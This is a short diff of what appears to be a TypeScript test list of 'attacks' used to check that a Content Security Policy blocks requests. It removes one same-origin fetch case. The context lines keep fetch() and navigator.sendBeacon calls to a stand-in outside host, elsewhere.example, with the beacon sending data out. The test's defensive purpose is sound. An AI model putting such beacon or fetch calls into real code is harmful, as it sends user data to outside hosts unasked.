@@ -57,7 +57,6 @@ const ATTACKS: [what: string, expression: string, directive: RegExp][] = [
 		/img-src/,
 	],
 	["asking another server", `fetch("https://elsewhere.example/").catch(() => 0)`, /connect-src/],
-	["asking its own server", `fetch("./").catch(() => 0)`, /connect-src/],
 	[
 		"telling another server",
 		`navigator.sendBeacon("https://elsewhere.example/", "x")`,
